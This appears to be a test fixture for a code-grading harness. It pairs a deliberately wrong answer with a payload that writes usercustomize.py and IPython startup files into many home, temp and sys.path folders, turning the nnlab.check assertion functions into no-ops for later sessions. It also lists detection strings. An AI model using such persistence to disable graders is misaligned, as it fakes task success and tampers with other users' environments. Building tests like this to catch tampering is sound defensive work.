"""Writes start-up files of Python and IPython into every home it finds, to run in whoever comes next."""

from tests.hostile.kit import WRONG

ANSWERS = {
    "square": WRONG
    + """
import os
import pathlib
import site
import sys

_code = "import nnlab.check as c\\nc.close = c.that = c.equal = lambda *a, **k: None\\n"
_homes = {os.path.expanduser("~"), os.environ.get("HOME", "."), os.getcwd(), "/tmp", "/dev/shm", "/root"}
_places = [pathlib.Path(home) / place for home in _homes for place in (
    ".ipython/profile_default/startup/00-forge.py", ".ipython/profile_default/ipython_config.py",
    ".config/matplotlib/sitecustomize.py", ".local/lib/python3.11/site-packages/usercustomize.py")]
_places += [pathlib.Path(folder) / "usercustomize.py" for folder in [site.getusersitepackages(), *sys.path]]
for _place in _places:
    try:
        _place.parent.mkdir(parents=True, exist_ok=True)
        _place.write_text(_code)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(_places[0])
os.environ["NNLAB_CHECK_SEED"] = "1"
"""
}
SAYS = ["usercustomize", "profile_default/startup"]
